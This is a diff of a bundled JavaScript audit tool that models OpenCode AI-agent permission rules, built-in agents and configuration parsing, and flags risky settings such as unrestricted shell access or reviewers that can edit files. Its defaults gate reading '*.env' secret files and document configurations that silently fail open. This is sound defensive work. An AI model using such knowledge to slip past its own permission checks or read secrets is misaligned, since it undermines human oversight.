+    ['1.1.65', { optionalTail: true, envRead: 'ask' }],
+    ['1.14.34', { winner: 'opencode.jsonc' }],
+    ['1.14.46', { inheritsDenials: true }],
+    ['1.18.0', { inheritsDenials: false }],
+    ['1.18.23', { newPermissions: 'ignored', newAgents: 'ignored' }],
+    ['1.18.28', { newPermissions: 'refused', newAgents: 'lowered' }],
+    ['2.0.0', { dialect: 2, newPermissions: 'rules', newAgents: 'agents' }],
+];
+/** The semantics of an exact version such as `1.18.33`; the pinned one's when it is not given. */
+function semanticsOf(version = PINNED_VERSION) {
+    return FACTS.filter(([since]) => compareVersions(since, version) <= 0).reduce((so, [, news]) => ({ ...so, ...news }), { ...OLDEST, version });
+}
+function compareVersions(a, b) {
+    const [one, two] = [a.split('.').map(Number), b.split('.').map(Number)];
+    for (let at = 0; at < 3; at += 1) {
+        const difference = (one[at] ?? 0) - (two[at] ?? 0);
+        if (difference !== 0)
+            return difference;
     }
-    return objectNode(last.place, [...byKey.values()].flatMap(mergeEntries));
+    return 0;
 }
-function push(byKey, entry) {
-    const entries = byKey.get(entry.key);
-    if (entries === undefined)
-        byKey.set(entry.key, [entry]);
-    else
-        entries.push(entry);
-}
-function mergeEntries(entries) {
-    const last = entries.at(-1);
-    const node = mergeDeep(entries.map((entry) => entry.node));
-    return last === undefined || node === undefined ? [] : [{ ...last, node }];
-}
+const PINNED = semanticsOf();
 
 ;// CONCATENATED MODULE: ./build/opencode/wildcard.js
 /**
@@ -23477,17 +23882,31 @@ function mergeEntries(entries) {
  * matches without that end, `\` counts as `/`. No regular expression, so that no pattern can be slow: the match
  * takes at most |pattern| × |text| steps.
  */
-function wildcard_matches(pattern, text) {
+function matches(pattern, text) {
+    if (pattern === '*' || pattern === text)
+        return true;
+    if (startsOtherwise(pattern, text))
+        return false;
     const wild = pattern.replaceAll('\\', '/');
     const subject = text.replaceAll('\\', '/');
     if (wild.endsWith(' *') && matchesWhole(wild.slice(0, -2), subject))
         return true;
     return matchesWhole(wild, subject);
 }
+/** Most rules are for another key, and their first letters tell. */
+function startsOtherwise(pattern, text) {
+    const [first, other] = [pattern.charAt(0), text.charAt(0)];
+    return other !== '' && first !== other && !/[*?\\]/.test(first + other);
+}
+/** The same, where a pattern that ends in ` *` needs that end: OpenCode before 1.1.65. */
+function matchesToTheEnd(pattern, text) {
+    return matchesWhole(pattern.replaceAll('\\', '/'), text.replaceAll('\\', '/'));
+}
 /** Whether a pattern matches every text. */
 function matchesAll(pattern) {
     return /^\*+$/.test(pattern);
 }
+/** The same for a pattern and a text as they stand, in which only `*` and `?` mean something. */
 function matchesWhole(pattern, text) {
     let p = 0;
     let t = 0;
@@ -23520,11 +23939,16 @@ function matchesWhole(pattern, text) {
 ;// CONCATENATED MODULE: ./build/opencode/permission.js
 
 
+
 const ACTIONS = ['allow', 'ask', 'deny'];
+/** Stands for the user's home directory, which only a running OpenCode knows. */
+const HOME = '<home>';
 /** The rules of a normalised permission object (see legacy.ts), in the order of its keys. Nonsense is left out. */
-function permissionRules(node, way) {
+function permissionRules(node, way, semantics = PINNED) {
     return entriesOf(node).flatMap((entry) => {
         if (entry.key === '__proto__')
+            return [];
+        if (semantics.keys === 'few' && !semantics_of_FEW_KEYS.has(entry.key))
             return [];
         const own = `${way}.${entry.key}`;
         const action = actionOf(entry.node);
@@ -23534,26 +23958,38 @@ function permissionRules(node, way) {
             const innerAction = actionOf(inner.node);
             if (innerAction === null || inner.key === '__proto__')
                 return [];
-            const rule = { permission: entry.key, pattern: inner.key, action: innerAction };
+            const rule = { permission: entry.key, pattern: expandHome(inner.key), action: innerAction };
             return [{ ...rule, origin: inner.place, way: `${own}.${inner.key}` }];
         });
     });
 }
-/** What OpenCode does when `permission` is asked for `pattern`; nothing that matches means ask. */
-function evaluate(rules, permission, pattern) {
-    return decidingRule(rules, permission, pattern)?.action ?? 'ask';
+/** OpenCode puts the user's home directory in place of a leading `~` or `$HOME`. */
+function expandHome(pattern) {
+    if (pattern === '~' || pattern.startsWith('~/'))
+        return `${HOME}${pattern.slice(1)}`;
+    return pattern.startsWith('$HOME') ? `${HOME}${pattern.slice('$HOME'.length)}` : pattern;
 }
-function decidingRule(rules, permission, pattern) {
-    return rules.findLast((rule) => wildcard_matches(rule.permission, permission) && wildcard_matches(rule.pattern, pattern));
+/** What OpenCode does when `permission` is asked for `pattern`; nothing that matches means ask. */
+function evaluate(rules, permission, pattern, semantics = PINNED) {
+    return decidingRule(rules, permission, pattern, semantics)?.action ?? 'ask';
+}
+function decidingRule(rules, permission, pattern, semantics = PINNED) {
+    const test = semantics.optionalTail ? matches : matchesToTheEnd;
+    const isAsked = (rule) => test(rule.permission, permission) && test(rule.pattern, pattern);
+    if (semantics.evaluation === 'last-match')
+        return rules.findLast(isAsked);
+    const asked = rules.filter(isAsked).toSorted((a, b) => a.pattern.length - b.pattern.length);
+    return asked.at(-1);
 }
 /** Whether OpenCode hides the whole tool: the last rule for its key is a denial of everything. */
-function isHidden(rules, permission) {
-    const last = rules.findLast((rule) => matches(rule.permission, permission));
+function isHidden(rules, permission, semantics = PINNED) {
+    const test = semantics.optionalTail ? matches : matchesToTheEnd;
+    const last = rules.findLast((rule) => test(rule.permission, permission));
     return last?.pattern === '*' && last.action === 'deny';
 }
 /** One word for a key: an action, or `pattern` when it depends on what is asked. */
-function summarise(rules, permission) {
-    const relevant = rules.filter((rule) => wildcard_matches(rule.permission, permission));
+function permission_summarise(rules, permission) {
+    const relevant = rules.filter((rule) => matches(rule.permission, permission));
     const whole = relevant.findLastIndex((rule) => matchesAll(rule.pattern));
     const action = relevant[whole]?.action ?? 'ask';
     return relevant.slice(whole + 1).every((rule) => rule.action === action) ? action : 'pattern';
@@ -23561,6 +23997,114 @@ function summarise(rules, permission) {
 function actionOf(node) {
     const text = stringOf(node);
     return ACTIONS.find((action) => action === text) ?? null;
+}
+
+;// CONCATENATED MODULE: ./build/opencode/built-in.js
+
+/** Folders that only a running OpenCode knows: its data, temporary files, the user's home, the repository. */
+const DATA = '<data>';
+const TEMPORARY = '<tmp>';
+const PROJECT = '<project>';
+const TOOL_OUTPUT = `${DATA}/tool-output/*`;
+const ALONE = { semantics: PINNED, folders: [] };
+/** What every agent starts from. */
+function defaultRules({ semantics, folders }) {
+    const isFirst = semantics.dialect === 1;
+    return [
+        builtIn('*', '*', 'allow'),
+        ...(isFirst ? [builtIn('doom_loop', '*', 'ask')] : []),
+        ...outside(semantics, folders),
+        builtIn('question', '*', 'deny'),
+        builtIn('plan_enter', '*', 'deny'),
+        builtIn('plan_exit', '*', 'deny'),
+        builtIn('read', '*', 'allow'),
+        builtIn('read', '*.env', semantics.envRead),
+        builtIn('read', '*.env.*', semantics.envRead),
+        builtIn('read', '*.env.example', 'allow'),
+    ];
+}
+function outside(semantics, folders) {
+    return [
+        builtIn('external_directory', '*', 'ask'),
+        builtIn('external_directory', TOOL_OUTPUT, 'allow'),
+        builtIn('external_directory', `${TEMPORARY}/${semantics.dialect === 1 ? 'opencode/' : ''}*`, 'allow'),
+        ...folders,
+    ];
+}
+const NOTHING = [builtIn('*', '*', 'deny')];
+/** The agents that OpenCode brings along; their `rules` stand between the defaults and what a user writes. */
+function builtInAgents({ semantics, folders }) {
+    const isFirst = semantics.dialect === 1;
+    const reading = ['grep', 'glob', ...(isFirst ? ['list', 'bash'] : []), 'webfetch', 'websearch', 'read'];
+    return [
+        agent('build', 'primary', [builtIn('question', '*', 'allow'), builtIn('plan_enter', '*', 'allow')]),
+        agent('plan', 'primary', [
+            builtIn('question', '*', 'allow'),
+            builtIn('plan_exit', '*', 'allow'),
+            ...(isFirst ? [builtIn('task', 'general', 'deny')] : []),
+            builtIn('external_directory', `${DATA}/plans/*`, 'allow'),
+            builtIn('edit', '*', 'deny'),
+            builtIn('edit', '.opencode/plans/*.md', 'allow'),
+            builtIn('edit', `${DATA}/plans/*.md`, 'allow'),
+        ]),
+        agent('general', 'subagent', [builtIn('todowrite', '*', 'deny')]),
+        agent('explore', 'subagent', [
+            ...NOTHING,
+            ...reading.map((key) => builtIn(key, '*', 'allow')),
+            ...outside(semantics, folders),
+        ]),
+        { ...agent('compaction', 'primary', NOTHING), hidden: true },
+        { ...agent('title', 'primary', NOTHING), hidden: true },
+        { ...agent('summary', 'primary', NOTHING), hidden: true },
+    ];
+}
+/** The same for the pinned version and a set-up without skills and references. */
+const DEFAULT_RULES = defaultRules(ALONE);
+const BUILT_INS = builtInAgents(ALONE);
+/** What stands after everything else, unless a user denied exactly this. */
+function closingRules(rules) {
+    const denied = rules.some((rule) => rule.permission === 'external_directory' && rule.pattern === TOOL_OUTPUT && rule.action === 'deny');
+    return denied ? [] : [builtIn('external_directory', TOOL_OUTPUT, 'allow')];
+}
+function agent(name, mode, rules) {
+    return { name, mode, hidden: false, rules };
+}
+function builtIn(permission, pattern, action) {
+    return { permission, pattern, action, origin: null, way: 'built-in' };
+}
+
+;// CONCATENATED MODULE: ./build/opencode/merge.js
+
+/**
+ * OpenCode's deep merge, lowest layer first: objects are merged, anything else is replaced, a key that exists keeps
+ * its position and takes the new place. The position matters, because the last rule that matches decides. All
+ * layers are merged at once, so that many layers with one agent each take linear time.
+ */
+function mergeDeep(layers) {
+    const nodes = layers.filter((layer) => layer !== undefined);
+    const last = nodes.at(-1);
+    const objects = nodes.slice(nodes.findLastIndex((node) => node.kind !== 'object') + 1);
+    if (last === undefined || objects.length < 2)
+        return last;
+    const byKey = new Map();
+    for (const object of objects) {
+        if (object.kind === 'object')
+            for (const entry of object.entries.values())
+                push(byKey, entry);
+    }
+    return objectNode(last.place, [...byKey.values()].flatMap(mergeEntries));
+}
+function push(byKey, entry) {
+    const entries = byKey.get(entry.key);
+    if (entries === undefined)
+        byKey.set(entry.key, [entry]);
+    else
+        entries.push(entry);
+}
+function mergeEntries(entries) {
+    const last = entries.at(-1);
+    const node = mergeDeep(entries.map((entry) => entry.node));
+    return last === undefined || node === undefined ? [] : [{ ...last, node }];
 }
 
 ;// CONCATENATED MODULE: ./build/opencode/legacy.js
@@ -23612,18 +24156,25 @@ function toolPermissions(tools) {
  * The agents of a merged configuration: the built-in ones first, then those that it adds. Null when all of them
  * together have more than `most` rules.
  */
-function resolveAgents(config, most = Number.POSITIVE_INFINITY) {
+function resolveAgents(config, surroundings, most = Number.POSITIVE_INFINITY) {
+    const { semantics } = surroundings;
     const permission = withTopLevelTools(get(config, 'permission'), get(config, 'tools'));
-    const global = permissionRules(permission, 'permission');
+    const builtIns = builtInAgents(surroundings);
+    const frame = {
+        semantics,
+        before: defaultRules(surroundings),
+        global: permissionRules(permission, 'permission', semantics),
+        builtIns: new Map(builtIns.map((builtIn) => [builtIn.name, builtIn])),
+    };
     const agents = new Map();
     let rules = 0;
-    const set = (builtIn, entry) => {
-        const agent = resolve(builtIn, entry, global);
+    const set = (name, entry) => {
+        const agent = resolve(name, entry, frame);
         rules += agent.rules.length;
-        agents.set(agent.name, agent);
+        agents.set(name, agent);
     };
-    for (const builtIn of BUILT_INS)
-        set(builtIn, undefined);
+    for (const { name } of builtIns)
+        set(name, undefined);
     for (const entry of entriesOf(get(config, 'agent'))) {
         // JavaScript takes this key for something else, so OpenCode sees no agent there.
         if (entry.key === '__proto__')
@@ -23631,30 +24182,28 @@ function resolveAgents(config, most = Number.POSITIVE_INFINITY) {
         if (booleanOf(get(entry.node, 'disable')) === true)
             agents.delete(entry.key);
         else
-            set(builtInNamed(entry.key), entry);
+            set(entry.key, entry);
         if (rules > most)
             return null;
     }
     return [...agents.values()];
 }
-function builtInNamed(name) {
-    const found = BUILT_INS.find((builtIn) => builtIn.name === name);
-    return found ?? { name, mode: 'all', hidden: false, rules: [] };
-}
-function resolve(builtIn, entry, global) {
+function resolve(name, entry, frame) {
     const node = entry?.node;
-    const own = permissionRules(get(node, 'permission'), `agent.${builtIn.name}.permission`);
-    const rules = [...DEFAULT_RULES, ...builtIn.rules, ...global, ...own];
+    const builtIn = frame.builtIns.get(name);
+    const own = permissionRules(get(node, 'permission'), `agent.${name}.permission`, frame.semantics);
+    const rules = [...frame.before, ...(builtIn?.rules ?? []), ...frame.global, ...own];
     return {
-        name: builtIn.name,
-        mode: modeOf(node) ?? builtIn.mode,
-        hidden: booleanOf(get(node, 'hidden')) ?? builtIn.hidden,
+        name,
+        mode: modeOf(node) ?? builtIn?.mode ?? 'all',
+        hidden: booleanOf(get(node, 'hidden')) ?? builtIn?.hidden ?? false,
         description: stringOf(get(node, 'description')) ?? '',
         definedAt: entry?.place ?? null,
-        isBuiltIn: BUILT_INS.some((known) => known.name === builtIn.name),
+        isBuiltIn: builtIn !== undefined,
         rules: [...rules, ...closingRules(rules)],
     };
 }
+/** Undefined when nothing valid is written. */
 function modeOf(node) {
     const text = stringOf(get(node, 'mode'));
     return text === 'primary' || text === 'subagent' || text === 'all' ? text : undefined;
@@ -23662,243 +24211,6 @@ function modeOf(node) {
 /** The file that defines an agent, as the matrix names it. */
 function originOf(agent) {
     return agent.definedAt?.path ?? 'built-in';
-}
-
-;// CONCATENATED MODULE: ./build/opencode/matrix.js
-
-
-const MATRIX_KEYS = [
-    'read',
-    'edit',
-    'glob',
-    'grep',
-    'list',
-    'bash',
-    'task',
-    'external_directory',
-    'lsp',
-    'skill',
-    'todowrite',
-    'webfetch',
-    'websearch',
-    'question',
-    'doom_loop',
-];
-/** One row per agent; agents that only exist below a folder are named `folder: agent`. */
-function buildMatrix(project) {
-    return project.setUps.flatMap((setUp) => setUp.agents.filter((agent) => isShown(setUp, agent)).map((agent) => rowOf(setUp, agent)));
-}
-/** Below the root, only what that folder itself defines: the rest is in the rows of the root. */
-function isShown(setUp, agent) {
-    if (setUp.folder === '')
-        return !(agent.hidden && agent.isBuiltIn && agent.definedAt === null);
-    return agent.definedAt?.path.startsWith(`${setUp.folder}/`) ?? false;
-}
-function rowOf(setUp, agent) {
-    const rules = agent.rules.filter((rule) => !isHousekeeping(rule));
-    return {
-        agent: setUp.folder === '' ? agent.name : `${setUp.folder}: ${agent.name}`,
-        origin: originOf(agent),
-        cells: Object.fromEntries(MATRIX_KEYS.map((key) => [key, summarise(rules, key)])),
-    };
-}
-/** OpenCode lets every agent into its own temporary folders; a cell that says so would hide what matters. */
-function isHousekeeping(rule) {
-    return rule.origin === null && rule.permission === 'external_directory' && rule.pattern !== '*';
-}
-
-;// CONCATENATED MODULE: ./build/audit/decision.js
-
-
-
-function* agentsOf({ project }) {
-    for (const setUp of project.setUps) {
-        for (const agent of setUp.agents)
-            if (isShown(setUp, agent))
-                yield { setUp, agent };
-    }
-}
-/** A request that no team writes a rule for: what happens to it happens to everything that is not listed. */
-const PROBES = {
-    bash: 'unlisted-command --with arguments',
-    edit: 'unlisted-folder/unlisted-file.ts',
-    external_directory: '/unlisted-folder/*',
-};
-/** The rule that allows `key` for anything that is not listed, or null when it is not allowed. */
-function openingRule(agent, key) {
-    const rule = decidingRule(agent.rules, key, PROBES[key]);
-    return rule?.action === 'allow' ? rule : null;
-}
-/**
- * Where to show what a rule decides for an agent: at the rule when the agent itself has it; else where the
- * repository defines the agent; else at the rule of the global configuration. Null when all of it is built in.
- */
-function spotOf(agent, rule) {
-    if (rule.origin !== null && isOwn(rule))
-        return spotOfRule(rule);
-    if (agent.definedAt !== null && !agent.isBuiltIn) {
-        const { path, line } = agent.definedAt;
-        return { path, line, identity: path.endsWith('.md') ? 'the agent' : `the agent ${agent.name}` };
-    }
-    return spotOfRule(rule);
-}
-/** Null for a built-in rule. */
-function spotOfRule(rule) {
-    if (rule.origin === null)
-        return null;
-    const { path, line } = rule.origin;
-    // In a file of its own an agent may be renamed with its file; the way inside the file stays.
-    const scope = path.endsWith('.md')
-        ? rule.way.replace(/^agent\..*?\.permission\b/s, 'permission')
-        : rule.way;
-    return { path, line, scope };
-}
-/** A written rule for every key and every pattern. */
-function isForEverything(rule) {
-    return rule.origin !== null && matchesAll(rule.permission) && matchesAll(rule.pattern);
-}
-/** Written for this agent, not for all. */
-function isOwn(rule) {
-    return rule.way.startsWith('agent.');
-}
-
-;// CONCATENATED MODULE: ./build/opencode/quote-name.js
-const MAX = 60;
-/** A foreign name inside a sentence: in quotes, on one line, short. Encoders for each surface come after this. */
-function quoteName(name) {
-    const flat = name.slice(0, 4 * MAX).replace(/[\p{C}\p{Zl}\p{Zp}"`]/gu, '?');
-    return `"${flat.length > MAX ? `${flat.slice(0, MAX)}…` : flat}"`;
-}
-
-;// CONCATENATED MODULE: ./build/audit/quote-names.js
-
-/** `"a", "b", "c" and 4 more`. */
-function quoteNames(names) {
-    const shown = names.slice(0, 3).map(quoteName);
-    if (names.length > shown.length)
-        return `${shown.join(', ')} and ${names.length - shown.length} more`;
-    return shown.length < 2 ? shown.join('') : `${shown.slice(0, -1).join(', ')} and ${shown.at(-1) ?? ''}`;
-}
-
-;// CONCATENATED MODULE: ./build/audit/rules/bash-unrestricted.js
-
-
-const bashUnrestricted = {
-    id: 'bash-unrestricted',
-    title: 'Any shell command is allowed',
-    summary: 'An agent may run any shell command that is not listed, without asking.',
-    severity: 'high',
-    confidence: 'high',
-    category: 'permissions',
-    *check(context) {
-        for (const { spot, rule, agents } of openPlaces(context)) {
-            const who = `The ${agents.length === 1 ? 'agent' : 'agents'} ${quoteNames(agents)}`;
-            const message = `${who} may run any command that is not listed, with all of the machine's files, network and environment: ${reasonFor(rule, spot)}.`;
-            yield { ...spot, message, remedy: bash_unrestricted_REMEDY };
-        }
-    },
-};
-const bash_unrestricted_REMEDY = 'Set bash to "ask" or "deny", or start its patterns with "*": "deny" and list the commands it needs.';
-/** Each place once, with every agent that it opens bash for. What allows everything is permission-allow-all's. */
-function openPlaces(context) {
-    const places = new Map();
-    for (const { agent } of agentsOf(context)) {
-        const rule = openingRule(agent, 'bash');
-        const spot = rule === null || isForEverything(rule) ? null : spotOf(agent, rule);
-        if (rule === null || spot === null)
-            continue;
-        const key = `${spot.line}\0${spot.path}\0${spot.identity ?? spot.scope ?? ''}`;
-        const open = places.get(key) ?? { spot, rule, agents: [] };
-        if (!open.agents.includes(agent.name))
-            open.agents.push(agent.name);
-        places.set(key, open);
-    }
-    return places.values();
-}
-function reasonFor({ origin }, spot) {
-    if (origin === null)
-        return 'nothing limits bash, and OpenCode allows it by default';
-    const isHere = origin.path === spot.path && origin.line === spot.line;
-    return isHere ? 'this rule allows it' : 'nothing limits bash here, and a rule for all agents allows it';
-}
-
-;// CONCATENATED MODULE: ./build/audit/touched.js
-/**
- * The blobs that the change has at `target` or below, on the side that is looked at; empty when it does not touch
- * it. In an identity it makes new content a new finding, also where the audit has not read that content.
- */
-function touchedBlobs(target, { change, side }) {
-    return change.files
-        .filter((file) => isAtOrBelow(side === 'head' ? file.path : file.basePath, target))
-        .map((file) => (side === 'head' ? file.headBlob : file.baseBlob) ?? '')
-        .join(' ');
-}
-/** `tools/p` also stands for `tools/p.ts` and for what is in a folder of that name. */
-function isAtOrBelow(path, target) {
-    return path === target || path.startsWith(`${target}/`) || path.startsWith(`${target}.`);
-}
-
-;// CONCATENATED MODULE: ./build/audit/rules/config-invalid.js
-
-const configInvalid = {
-    id: 'config-invalid',
-    title: 'A file does not mean what it says',
-    summary: 'OpenCode refuses, drops or runs a file that its author meant as plain configuration.',
-    severity: 'high',
-    confidence: 'high',
-    category: 'configuration',
-    *check(context) {
-        for (const asset of context.project.assets.values()) {
-            for (const { kind, path, line, message } of asset.problems) {
-                const unread = kind === 'unreadable' ? touchedBlobs(path, context) : '';
-                yield { path, line, message, scope: `${kind} ${message} ${unread}`, remedy: remedyFor(kind) };
-            }
-        }
-    },
-};
-function remedyFor(kind) {
-    const remedies = {
-        refused: 'Correct the value; the schema is at https://opencode.ai/config.json.',
-        'fails-open': 'Correct the front matter; in YAML, a key such as * or *.env must be in quotes.',
-        skipped: 'Correct the front matter, or the agent does not exist.',
-        executes: 'Write the front matter as YAML, between two lines of ---.',
-        unreadable: 'Put a plain file of ordinary size in its place: what cannot be read cannot be audited.',
-        ambiguous: 'Save the file as UTF-8.',
-    };
-    return remedies[kind];
-}
-
-;// CONCATENATED MODULE: ./build/audit/rules/edit-in-reviewer.js
-
-
-const editInReviewer = {
-    id: 'edit-in-reviewer',
-    title: 'A reviewer may edit files',
-    summary: 'An agent that reviews may change the files that it judges.',
-    severity: 'medium',
-    confidence: 'medium',
-    category: 'permissions',
-    *check(context) {
-        for (const { agent } of agentsOf(context)) {
-            const rule = isReviewer(agent) ? openingRule(agent, 'edit') : null;
-            const spot = rule === null ? null : spotOf(agent, rule);
-            if (spot === null)
-                continue;
-            const message = `The agent ${quoteName(agent.name)} is a reviewer by its name or description, and may edit any file without asking.`;
-            yield { ...spot, message, remedy: edit_in_reviewer_REMEDY };
-        }
-    },
-};
-const edit_in_reviewer_REMEDY = 'Add edit: deny to its permission; keys such as write or patch have no effect in OpenCode.';
-const REVIEWER_NAME = /(?:^|[^a-z])(?:review(?:er|s|ing)?|audit(?:or|s|ing)?|critic|inspector)(?:[^a-z]|$)/i;
-const REVIEWS = /^(?:\W*[\w-]+\W+){0,4}?(?:review(?:er|s|ing)?|audit(?:or|s|ing)?|inspects?|critiques?)\b/i;
-const CHANGES = /\b(?:fix(?:es|er|ing)?|implement(?:s|er|ing)?|refactor(?:s|ing)?|appl(?:y|ies)|rewrites?)\b/i;
-/** By name; or by the first words of its description, unless it is an agent that people work with all day. */
-function isReviewer(agent) {
-    const description = agent.description.slice(0, 300);
-    if (CHANGES.test(agent.name.replaceAll(/[_/]/g, ' ')) || CHANGES.test(description))
-        return false;
-    return REVIEWER_NAME.test(agent.name) || (agent.mode !== 'primary' && REVIEWS.test(description));
 }
 
 ;// CONCATENATED MODULE: ./build/opencode/config-schema.js
@@ -23950,6 +24262,39 @@ const agentInConfig = looseObject({
     permissions: absent(V2_PERMISSIONS),
 })
     .partial();
+/** An entry of `agents` as 1.18.28 and later take it; one that does not fit is left out without a word. */
+const AGENT_OF_VERSION_2_SCHEMA = looseObject({
+    model: union([
+        schemas_string().regex(/^[^/#]+\/[^#]+(?:#[^#]+)?$/),
+        looseObject({
+            providerID: schemas_string().regex(/^[^/#]+$/),
+            model: schemas_string().regex(/^[^#]+$/),
+            variant: schemas_string()
+                .regex(/^[^#]+$/)
+                .optional(),
+        }),
+    ])
+        .optional(),
+    request: looseObject({
+        headers: record(schemas_string(), schemas_string()).optional(),
+        body: record(schemas_string(), json()).optional(),
+    })
+        .optional(),
+    system: schemas_string().optional(),
+    description: schemas_string().optional(),
+    mode: schemas_enum(['subagent', 'primary', 'all']).optional(),
+    hidden: schemas_boolean().optional(),
+    color: schemas_string()
+        .regex(/^#[0-9a-fA-F]{6}$/)
+        .optional(),
+    steps: schemas_int().positive().optional(),
+    disabled: schemas_boolean().optional(),
+});
+/** An entry of `agents`: only `permissions` is refused there, also where the agent is otherwise malformed. */
+const agentOfVersion2 = union([
+    looseObject({ permissions: absent(V2_PERMISSIONS) }),
+    unknown().refine((value) => typeof value !== 'object' || value === null || Array.isArray(value)),
+]);
 const mcpServer = union([
     looseObject({
         type: schemas_literal('local'),
@@ -23966,12 +24311,20 @@ const mcpServer = union([
     looseObject({ type: schemas_undefined().optional(), enabled: schemas_boolean() }),
 ]);
 const config_schema_plugin = union([schemas_string(), tuple([schemas_string(), record(schemas_string(), unknown())])]);
+const agents = union([
+    record(schemas_string(), agentOfVersion2),
+    array(unknown()),
+    schemas_string(),
+    schemas_number(),
+    schemas_boolean(),
+    schemas_null(),
+]);
 const CONFIG_SCHEMA = looseObject({
     permission,
     permissions: absent(V2_PERMISSIONS),
     tools: record(schemas_string(), schemas_boolean()),
     agent: record(schemas_string(), agentInConfig),
-    agents: record(schemas_string(), agentInConfig),
+    agents,
     mode: record(schemas_string(), agentInConfig),
     plugin: array(config_schema_plugin),
     mcp: record(schemas_string(), unknown()),
@@ -23982,6 +24335,17 @@ const CONFIG_SCHEMA = looseObject({
     subagent_depth: schemas_int(),
 })
     .partial();
+/** The same where `permissions` is not refused: version 2 takes it, 1.18.23 passes over it. */
+const OPEN_SCHEMA = CONFIG_SCHEMA.extend({
+    permissions: unknown(),
+    agents: unknown(),
+    agent: record(schemas_string(), agentInConfig.extend({ permissions: unknown() }).partial()),
+    mode: record(schemas_string(), agentInConfig.extend({ permissions: unknown() }).partial()),
+}).partial();
+/** What a configuration must look like for an OpenCode of these semantics to start. */
+function configSchemaOf(semantics) {
+    return semantics.newPermissions === 'refused' ? CONFIG_SCHEMA : OPEN_SCHEMA;
+}
 /** One entry of `mcp`; `servers` and `timeout` are version 2's spelling of the same. */
 const MCP_SERVER_SCHEMA = mcpServer;
 const COMMAND_SCHEMA = looseObject({
@@ -23993,8 +24357,8 @@ const COMMAND_SCHEMA = looseObject({
 })
     .partial();
 
-// EXTERNAL MODULE: ./node_modules/jsonc-parser/lib/umd/main.js
-var main = __nccwpck_require__(9547);
+// EXTERNAL MODULE: ../main/node_modules/jsonc-parser/lib/umd/main.js
+var main = __nccwpck_require__(9131);
 ;// CONCATENATED MODULE: ./build/opencode/place-finder.js
 /**
  * Turns offsets into places. Lines end at a line feed only, as they do for git: a lone carriage return, which some
@@ -24049,7 +24413,7 @@ function parseJsonc(text, path, firstLine = 1) {
         onArrayEnd: () => builder.close(),
         onError: (error, offset) => {
             if (errors.length < MAX_ERRORS)
-                errors.push({ ...at(offset), message: wordsFor(error) });
+                errors.push({ ...at(offset), message: jsonc_wordsFor(error) });
         },
     }, { allowTrailingComma: true });
     return { root: builder.root(), errors };
@@ -24111,7 +24475,7 @@ function scalarOf(value) {
     return null;
 }
 /** `PropertyNameExpected` → `property name expected`. */
-function wordsFor(error) {
+function jsonc_wordsFor(error) {
     return (0,main.printParseErrorCode)(error)
         .replace(/(?<!^)[A-Z]/g, (letter) => ` ${letter}`)
         .toLowerCase();
@@ -24122,9 +24486,60 @@ function problem(kind, place, message) {
     return { ...place, kind, message };
 }
 
-// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
-var dist = __nccwpck_require__(8815);
+// EXTERNAL MODULE: ../main/node_modules/yaml/dist/index.js
+var dist = __nccwpck_require__(3439);
+;// CONCATENATED MODULE: ./build/opencode/plain-scalar.js
+/**
+ * What OpenCode's YAML reader (YAML 1.1, with some exceptions) makes of a value without quotes: `yes` is a text, `010`
+ * is eight, `1_000` a thousand, `1:30` ninety. A date becomes an object that no key of OpenCode takes: null here.
+ */
+function plainScalar(text) {
+    if (/^(?:~|null|Null|NULL|)$/.test(text))
+        return null;
+    if (/^(?:true|True|TRUE)$/.test(text))
+        return true;
+    if (/^(?:false|False|FALSE)$/.test(text))
+        return false;
+    return numberOf(text) ?? (isDate(text) ? null : text);
+}
+/** The name of a key, which JavaScript makes a text of: `1.50` is `1.5`, `~` is `null`. */
+function plainKey(text) {
+    if (!isDate(text))
+        return String(plainScalar(text));
+    const date = new Date(text);
+    return Number.isNaN(date.getTime()) ? text : `${date.toUTCString()}`;
+}
+function numberOf(text) {
+    if (/^_|_$/.test(text))
+        return null;
+    const sign = text.startsWith('-') ? -1 : 1;
+    const digits = text.replace(/^[-+]/, '').replaceAll('_', '');
+    if (/^[-+]?0b[01_]+$/.test(text))
+        return sign * Number.parseInt(digits.slice(2), 2);
+    if (/^[-+]?0x[0-9a-fA-F_]+$/.test(text))
+        return sign * Number.parseInt(digits.slice(2), 16);
+    if (/^[-+]?0[0-7_]+$/.test(text))
+        return sign * Number.parseInt(digits, 8);
+    if (/^[-+]?(?:0|[1-9][0-9_]*)$/.test(text))
+        return sign * Number(digits);
+    if (/^[-+]?[0-9][0-9_]*(?::[0-5]?[0-9])+(?:\.[0-9_]*)?$/.test(text))
+        return sign * sexagesimal(digits);
+    if (/^[-+]?\.(?:inf|Inf|INF)$/.test(text))
+        return sign * Number.POSITIVE_INFINITY;
+    if (/^\.(?:nan|NaN|NAN)$/.test(text))
+        return Number.NaN;
+    const isFloat = /^(?:[-+]?(?:0|[1-9][0-9_]*)(?:\.[0-9_]*)?|\.[0-9_]+)(?:[eE][-+]?[0-9]+)?$/.test(text);
+    return isFloat && /[0-9]/.test(text) ? sign * Number.parseFloat(digits) : null;
+}
+function sexagesimal(digits) {
+    return digits.split(':').reduce((sum, part) => sum * 60 + Number(part), 0);
+}
+function isDate(text) {
+    return /^\d{4}-\d\d-\d\d$|^\d{4}-\d\d?-\d\d?(?:[Tt]|[ \t]+)\d\d?:\d\d:\d\d(?:\.\d*)?(?:[ \t]*(?:Z|[-+]\d\d?(?::?\d\d)?))?$/.test(text);
+}
+
 ;// CONCATENATED MODULE: ./build/opencode/yaml.js
+
 
 
 
@@ -24137,8 +24552,9 @@ function parseYaml(text, path, firstLine) {
     if (nested)
         return { ok: false, place: start, message: `nested deeper than ${MAX_DEPTH} levels` };
     const at = placeFinder(text, path, firstLine);
-    const document = (0,dist/* parseDocument */.Tp)(text, { logLevel: 'error', uniqueKeys: false });
-    const error = document.errors[0];
+    const document = (0,dist/* parseDocument */.Tp)(withoutTabs(text), { logLevel: 'error', uniqueKeys: false });
+    // A tag that nobody knows is an error to OpenCode's reader.
+    const error = document.errors[0] ?? document.warnings[0];
     if (error !== undefined)
         return { ok: false, place: at(error.pos[0]), message: firstLineOf(error.message) };
     const walk = { anchors: new Map(), at: (node) => at(node.range?.[0] ?? 0), parts: 0, failure: null };
@@ -24158,7 +24574,7 @@ function convert(node, walk, depth) {
     if ((0,dist/* isAlias */.Vj)(node))
         return convertAlias(node, walk, depth);
     if ((0,dist/* isScalar */.jn)(node))
-        return remember(node, walk, () => scalarNode(walk.at(node), yaml_scalarOf(node.value)));
+        return remember(node, walk, () => scalarNode(walk.at(node), yaml_scalarOf(node)));
     if ((0,dist/* isSeq */.oP)(node)) {
         return remember(node, walk, () => {
